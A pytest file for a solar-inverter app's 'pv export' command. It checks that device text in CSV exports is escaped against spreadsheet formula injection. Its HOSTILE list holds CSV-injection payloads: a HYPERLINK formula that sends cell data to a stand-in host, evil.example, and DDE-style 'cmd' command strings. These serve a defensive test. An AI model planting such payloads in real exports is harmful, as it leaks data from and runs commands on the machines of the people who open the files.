"""Issue 12: `pv export` CSV must not let text from an inverter run as a spreadsheet formula.

The serial number, the mode label, fault words and refusal reasons reach the
CSV as text.  A serial like ``=HYPERLINK(...)`` ran when the export was
opened in a spreadsheet.  Each text cell that a spreadsheet would evaluate is
prefixed with ``'`` (OWASP's CSV-injection advice); numbers stay numbers; the
JSON form and the database keep the raw text.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from pvapp.cli.export import spreadsheet_safe
from pvapp.reading import InverterInfo, Reading
from pvapp.storage import Storage

REPO = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # full-width equals sign
]


def export(db: Path, *args: str) -> str:
    """The exported text exactly as written (bytes decoded, no newline translation: a CR is data here)."""
    proc = subprocess.run([sys.executable, "-m", "pvapp.cli", "export", "--storage", str(db), "--timezone", "UTC",
                           *args], capture_output=True, timeout=60, cwd=REPO, check=False)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.decode("utf-8")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["0905BO0139", "Normal", "No-Utility", "pac: above rated power (2178 > 2000)", "", " A1"]
)
def test_plain_text_is_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_device_text_in_a_csv_export_never_starts_a_formula(tmp_path: Path) -> None:
    db_path = tmp_path / "pv.sqlite"
    db = Storage(db_path)
    t0 = datetime(2026, 12, 21, 1, 0, tzinfo=UTC)
    for i, text in enumerate(HOSTILE):
        inv = InverterInfo(serial=text, spec_id="cms", port="sim://cms", address=1)
        db.store_poll(
            Reading(
                inv, t0 + timedelta(minutes=i), {"pac": -3.5 if i == 0 else 100, "e_total": 12.5}, b"\x00",
                mode=text, faults=(text,), rejected={"e_today": text},
            )
        )  # fmt: skip
    db.close()
    rows = list(csv.DictReader(io.StringIO(export(db_path), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("serial", "mode_label", "faults"):
            assert row[column].startswith("'") and row[column][1:] in HOSTILE, (column, row[column])
        assert row["rejected"].startswith("e_today: ")  # starts with the field id: no formula
    assert rows[0]["pac"] == "-3.5"  # a negative number is a number, not neutralised
    items = json.loads(export(db_path, "--format", "json"))
    assert sorted(item["serial"] for item in items) == sorted(HOSTILE)  # JSON keeps the raw text


def test_history_export_neutralises_the_serial_too(tmp_path: Path) -> None:
    from pvapp.storage import HistoryRecord

    db = Storage(tmp_path / "pv.sqlite")
    fetched = datetime(2026, 12, 21, 8, 0, tzinfo=UTC)
    db.store_history(HOSTILE[0], [HistoryRecord(HOSTILE[0], "2026-12-21", 9, 0, 1.25, fetched)])
    db.close()
    rows = list(csv.DictReader(io.StringIO(export(tmp_path / "pv.sqlite", "--history"), newline="")))
    assert rows[0]["serial"] == "'" + HOSTILE[0] and rows[0]["energy_kwh"] == "1.25"
